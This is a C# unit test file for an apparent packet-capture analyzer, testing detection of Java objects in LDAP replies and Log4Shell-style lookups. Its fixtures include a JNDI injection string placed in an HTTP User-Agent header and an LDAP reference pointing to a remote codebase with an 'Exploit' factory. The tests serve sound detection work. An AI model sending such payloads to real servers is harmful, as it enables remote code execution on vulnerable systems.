using CsCheck;
using Pcapper.Engine;
using Pcapper.Modules.Protocols.Ldap;
using Pcapper.Packets;
using Pcapper.Tests.Building;
using Pcapper.Tests.Running;
using Xunit;
using static Pcapper.Tests.Protocols.Ldap.LdapBytes;

namespace Pcapper.Tests.Protocols.Ldap;

/// <summary>Java objects in answers (RFC 2713).</summary>
public sealed class LdapJavaTests
{
    private const string Inside = "192.168.0.9";
    private const string Outside = "8.8.8.217";
    private static readonly HashSet<string> s_ldap = ["ldap"];

    private static readonly (string Name, byte[] Value)[] s_reference =
        [("javaClassName", "foo"u8.ToArray()), ("javaCodeBase", "http://8.8.8.217:8000/"u8.ToArray()), ("objectClass", "javaNamingReference"u8.ToArray()), ("javaFactory", "Exploit"u8.ToArray())];

    [Fact]
    public void A_reference_is_read_with_class_place_and_factory()
    {
        ParserFlow flow = new((f, b) => new LdapParser(f, b), 1389);
        flow.Says(Search(2, "a", 0, Present("objectClass")));
        flow.Replies(Entry(2, "a", s_reference));
        LdapJavaObject found = flow.Only<LdapJavaObject>();
        Assert.Equal(("a", "foo", "http://8.8.8.217:8000/", "Exploit"), (found.Name, found.Class, found.CodeBase, found.Factory));
        Assert.Null(found.SerializedBytes);
    }

    [Theory]
    [InlineData("javaSerializedData", true)]
    [InlineData("javaserializeddata;binary", true)]
    [InlineData("javaReferenceAddress", true)]
    [InlineData("javaClassName", false)]
    [InlineData("javaDoc", false)]
    public void Only_what_a_client_loads_or_unpacks_counts(string attribute, bool isFound)
    {
        ParserFlow flow = new((f, b) => new LdapParser(f, b), 1389);
        flow.Replies(Entry(2, "a", (attribute, [0xAC, 0xED, 0, 5])));
        Assert.Equal(isFound, flow.All<LdapJavaObject>().Any());
    }

    [Fact]
    public void Lists_of_entries_are_passed_over()
    {
        ParserFlow flow = new((f, b) => new LdapParser(f, b), 389);
        flow.Says(Search(2, "dc=example", 2, Present("objectClass")));
        flow.Replies(Entry(2, "a", s_reference));
        Assert.Empty(flow.All<LdapJavaObject>());
    }

    [Fact]
    public void Any_change_of_a_byte_is_survived()
    {
        byte[] entry = Entry(2, "a", s_reference);
        Gen.Select(Gen.Int[0, entry.Length - 1], Gen.Byte).Always((at, value) =>
        {
            byte[] changed = [.. entry];
            changed[at] = value;
            new ParserFlow((f, b) => new LdapParser(f, b), 389).Replies(changed);
        });
    }

    [Fact]
    public void Classes_from_a_URL_are_high_and_the_URL_is_an_indicator()
    {
        RunOutcome outcome = Analysis.Of(LookUp(Capture.New(), s_reference).ToPcap(), modules: s_ldap);
        Finding finding = Assert.Single(outcome.Findings);
        Assert.Equal((LdapJavaFindings.JavaObject, Severity.High), (finding.Type, finding.Severity));
        Assert.Equal("1 answer from port 1389 about a of class foo: classes from http://8.8.8.217:8000/; factory Exploit", finding.Summary);
        Assert.Equal((IpAddress.Parse(Outside), IpAddress.Parse(Inside), 1389), (finding.Source, finding.Destination, finding.Port));
        Assert.Equal("http://8.8.8.217:8000/", Assert.Single(outcome.Indicators).Value);
    }

    [Fact]
    public void An_object_of_the_own_directory_is_medium()
        => Assert.Equal(Severity.Medium, Assert.Single(Analysis.Of(LookUp(Capture.New(), [("javaSerializedData", [0xAC, 0xED])], "192.168.0.2").ToPcap(), modules: s_ldap).Findings).Severity);

    [Fact]
    public void After_the_request_that_makes_the_server_ask_it_is_critical()
    {
        CaptureBuilder capture = Attempt(Capture.New(), Inside);
        Finding finding = Assert.Single(Analysis.Of(LookUp(capture, s_reference).ToPcap(), modules: s_ldap).Findings);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("was sent ${jndi:…} by HTTP in 1 request (frame 4), and looked it up", finding.Summary, StringComparison.Ordinal);
        Assert.Contains(finding.Evidence, frame => frame.Number == 4);
        Assert.Equal(Severity.High, Assert.Single(Analysis.Of(LookUp(Attempt(Capture.New(), "192.168.0.8"), s_reference).ToPcap(), modules: s_ldap).Findings).Severity);
        Assert.Equal(Severity.High, Assert.Single(Analysis.Of(Attempt(LookUp(Capture.New(), s_reference), Inside).ToPcap(), modules: s_ldap).Findings).Severity);
    }

    private static CaptureBuilder Attempt(CaptureBuilder capture, string server) => capture.Tcp($"{Outside}:40000", $"{server}:8080", c => c
        .Says("GET / HTTP/1.1\r\nHost: www.example\r\nUser-Agent: ${jndi:ldap://8.8.8.217:1389/a}\r\n\r\n").Replies("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").Closes());

    private static CaptureBuilder LookUp(CaptureBuilder capture, (string Name, byte[] Value)[] attributes, string server = Outside) => capture.Tcp($"{Inside}:39010", $"{server}:1389", c => c
        .Says(Bind(1, "", "")).Replies(Result(1, 1, 0))
        .Says(Search(2, "a", 0, Present("objectClass"))).Replies([.. Entry(2, "a", attributes), .. Result(2, 5, 0)])
        .Closes());
}
